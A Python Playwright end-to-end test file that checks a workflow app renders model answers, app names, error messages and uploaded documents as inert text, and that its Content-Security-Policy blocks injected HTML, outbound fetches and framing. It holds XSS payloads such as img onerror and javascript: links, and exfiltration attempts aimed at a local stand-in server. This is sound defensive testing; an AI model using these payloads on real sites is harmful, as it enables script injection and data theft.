"""What a model, a document or a colleague wrote is text: nothing of it runs and nothing is fetched, on any page.

A second time with the sanitizer left out: what is put into the page as it is, the Content-Security-Policy stops.
"""

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.browser import Tab, tab
from tests.e2e.editor import sign_in
from tests.e2e.payloads import BROWSER, CANARY, EXFILTRATION, XSS
from tests.product import serving

LISTEN = """() => {
  window.ran = [];
  for (const name of ['alert', 'confirm', 'prompt', 'msgbox']) window[name] = (...said) => void window.ran.push(name);
  window.blocked = [];
  document.addEventListener('securitypolicyviolation', (e) => window.blocked.push(e.violatedDirective));
}"""
# What an answer may be made of. Everything else that a parser could have made of it is a finding.
STRANGE = """(names) => [...document.querySelectorAll('.prose-answer *')].flatMap((one) => [
  ...(names.includes(one.localName) || one.closest('svg.lucide') ? [] : [one.outerHTML.slice(0, 200)]),
  ...[...one.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc')
    .map(() => one.outerHTML.slice(0, 200)),
])"""
LINKS = """() => [...document.querySelectorAll('.prose-answer a')].map((a) => [a.protocol, a.rel, a.target, a.textContent])"""
PLAIN = (
    "a p em strong del code pre ul ol li h1 h2 h3 h4 h5 h6 blockquote hr br table thead tbody tr th td div span button "
    "section sup input"
).split()
NAME = "<img src=x onerror=alert(1)>\"'><svg onload=alert(1)>[a](javascript:alert(1))"


@dataclass
class Elsewhere:
    """A server that must not be asked for anything."""

    url: str = ""
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    there = Elsewhere()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            own = self.path == "/page"  # without a policy, for the control
            there.asked += [] if own else [self.path]
            self.send_response(200 if own else 204)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    there.url = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield there
    server.shutdown()
    server.server_close()


@dataclass
class Place:
    url: str
    run: str
    failed: str
    app: str
    dataset: str
    texts: list[str]


def _graph(count: int) -> dict[str, Any]:
    variables = [{"name": "texts", "type": "object"}]
    nodes = [{"id": "start", "type": "input", "title": NAME, "config": {"variables": variables}}]
    nodes += [
        {
            "id": f"o{n}",
            "type": "output",
            "title": NAME,
            "config": {"name": f"o{n}", "template": f"{{{{ texts.t{n} }}}}"},
        }
        for n in range(count)
    ]
    return {"nodes": nodes, "edges": [{"source": "start", "target": f"o{n}"} for n in range(count)]}


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory, elsewhere: Elsewhere) -> Iterator[Place]:
    """One run whose outputs are all payloads, one that failed with them, and things whose names are some."""
    texts = [text.replace("{out}", elsewhere.url) for text in XSS]
    texts += [text.format(out=elsewhere.url, canary=CANARY) for text in EXFILTRATION]
    with serving(tmp_path_factory.mktemp("hostile") / "data", ATOLL_SAMPLE="false") as product:
        owner = product.client()
        owner.set_up("en")
        app = owner.call("POST", "/apps", {"name": NAME, "graph": _graph(len(texts))}, expect=201)["id"]
        run = owner.run(app, {"texts": {f"t{n}": text for n, text in enumerate(texts)}})
        assert run["status"] == "succeeded", run["error"]
        code = f"def main(x):\n    raise ValueError({NAME + elsewhere.url!r})"
        failing = {
            "nodes": [
                {"id": "start", "type": "input", "config": {"variable": "x"}},
                {"id": "run", "type": "code", "title": NAME,
                 "config": {"code": code, "inputs": [{"name": "x"}], "outputs": [{"name": "result"}]}},
            ],
            "edges": [{"source": "start", "target": "run", "data": {"mapping": {"x": "x"}}}],
        }  # fmt: skip
        broken = owner.call("POST", "/apps", {"name": "broken " + NAME, "graph": failing}, expect=201)["id"]
        failed = owner.run(broken, {"x": texts[4]})
        assert failed["status"] == "failed"
        dataset = owner.call("POST", "/datasets", {"name": NAME, "description": texts[0]}, expect=201)["id"]
        document = ("\n\n".join(texts[:60])).encode()
        file = {"file": (NAME.replace("/", "") + ".md", document, "text/markdown")}
        owner.call("POST", f"/datasets/{dataset}/documents", files=file, expect=201)
        owner.documents_ready(dataset)
        yield Place(product.url, run["id"], failed["id"], broken, dataset, texts)


def _ran(opened: Tab) -> list[str]:
    found: list[str] = opened.page.evaluate("window.ran")
    return found


@pytest.mark.attack("S-68", "S-69", "S-92")
def test_nothing_of_an_answer_runs_or_is_fetched(place: Place, elsewhere: Elsewhere, chromium: Browser) -> None:
    assert len(XSS) >= 150 and len(EXFILTRATION) >= 25
    with tab(chromium, place.url, "en") as opened:
        page = opened.page
        page.add_init_script(f"({LISTEN})()")
        sign_in(opened)
        opened.open(f"/runs/{place.run}")
        expect(page.locator(".prose-answer")).to_have_count(len(place.texts))
        assert page.evaluate(STRANGE, PLAIN) == []
        assert page.locator(".prose-answer img, .prose-answer iframe, .prose-answer form").count() == 0
        links = page.evaluate(LINKS)
        assert len(links) > 20
        for protocol, rel, target, words in links:
            assert protocol in ("http:", "https:", "mailto:", ""), (protocol, words)
            assert {"noopener", "noreferrer"} <= set(rel.split()) and target == "_blank", words
        leading = [words for _, _, _, words in links if elsewhere.url[7:] in words]
        assert any(words.startswith("click (") for words in leading), "the host of a link is shown"
        page.evaluate("""() => document.querySelectorAll('.prose-answer *').forEach((one) => {
          for (const kind of ['mouseover', 'mouseenter', 'focus', 'error', 'load', 'toggle'])
            one.dispatchEvent(new Event(kind));
        })""")
        assert _ran(opened) == [] and elsewhere.asked == []
        opened.assert_sound()


@pytest.mark.attack("S-68", "S-80")
def test_names_errors_and_documents_are_text_on_every_page(
    place: Place, elsewhere: Elsewhere, chromium: Browser
) -> None:
    pages = {
        f"/runs/{place.failed}": "ValueError", "/apps": NAME[:20], "/runs": NAME[:20], "/knowledge": NAME[:20],
        f"/knowledge/{place.dataset}": NAME[:20], f"/apps/{place.app}/design": NAME[:20],
        f"/apps/{place.app}/data-flow": NAME[:20], f"/apps/{place.app}/use": NAME[:20],
    }  # fmt: skip
    with tab(chromium, place.url, "en") as opened:
        page = opened.page
        page.add_init_script(f"({LISTEN})()")
        sign_in(opened)
        for path, words in pages.items():
            opened.open(path)
            expect(page.locator("#root").get_by_text(words).first).to_be_attached()
            assert _ran(opened) == [], path
            assert page.evaluate("window.blocked") == [], f"{path} needs what the CSP forbids"
            assert page.locator("#root [onerror], #root [onload]").count() == 0, path
        opened.open(f"/knowledge/{place.dataset}?tab=documents")
        page.get_by_role("button", name="<img").first.click()
        expect(page.get_by_role("dialog")).to_contain_text("alert(1)")
        assert _ran(opened) == [] and elsewhere.asked == []
        opened.assert_sound()


@pytest.mark.attack("S-68", "S-69", "S-76")
def test_without_the_sanitizer_the_policy_of_the_page_stops_it(
    place: Place, elsewhere: Elsewhere, chromium: Browser
) -> None:
    """Put into the page as HTML, and what is to be clicked is clicked. Then as a control: without the policy it runs."""
    html = [text.replace("{out}", elsewhere.url) for text in BROWSER]
    html += [text.format(out=elsewhere.url, canary=CANARY) for text in EXFILTRATION]
    put = """(texts) => texts.forEach((text) => {
      const box = document.createElement('div');
      box.innerHTML = text;
      document.body.append(box);
      box.querySelectorAll('.go').forEach((one) => { try { one.click(); } catch { /* it may not be clickable */ } });
      document.querySelectorAll('script').forEach((one) => {
        if (box.contains(one)) { const again = document.createElement('script'); again.text = one.text; box.append(again); }
      });
    })"""
    with tab(chromium, place.url, "en") as opened:
        page = opened.page
        page.add_init_script(f"({LISTEN})()")
        opened.open("/sign-in")
        expect(page.get_by_role("button").first).to_be_visible()
        page.evaluate(put, html)
        page.evaluate(
            """(url) => {
              for (const make of [() => setTimeout('alert(1)'),
                () => fetch(url + '/fetch').catch(() => 0), () => navigator.sendBeacon(url + '/beacon'),
                () => new WebSocket(url.replace('http', 'ws')), () => new EventSource(url + '/events'),
                () => new Worker('data:text/javascript,postMessage(1)'), () => import(url + '/module.js').catch(() => 0),
                () => postMessage({ type: 'execute', code: 'alert(1)' }, '*')])
                try { make(); } catch { /* refused at once */ }
            }""",
            elsewhere.url,
        )
        page.wait_for_function("window.blocked.length > 60")
        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 200)))")
        assert _ran(opened) == [] and elsewhere.asked == []
        kinds = set(page.evaluate("window.blocked"))
        assert {
            "script-src-attr",
            "script-src-elem",
            "img-src",
            "style-src-elem",
            "connect-src",
        } <= kinds
        assert page.url == f"{place.url}/sign-in"
        page.goto(f"{elsewhere.url}/page")
        page.evaluate(put, html)
        page.wait_for_function("window.ran.length > 10")
        for _ in range(100):
            if len(elsewhere.asked) > 5:
                break
            page.wait_for_timeout(50)
        assert len(elsewhere.asked) > 5, "without a policy the attacks are attacks"


@pytest.mark.attack("S-74")
def test_no_other_page_can_show_ours_inside(place: Place, chromium: Browser) -> None:
    with tab(chromium, place.url, "en") as opened:
        page = opened.page
        page.route("http://other.test/", lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe src='{place.url}/apps'></iframe>"))  # fmt: skip
        page.goto("http://other.test/")
        page.wait_for_function("window.frames.length === 1")
        assert page.evaluate("() => { try { return frames[0].document.body.innerText } catch { return 'kept apart' } }") in (
            "kept apart", "")  # fmt: skip
        frame = page.frames[1]
        assert frame.url in ("chrome-error://chromewebdata/", ""), frame.url
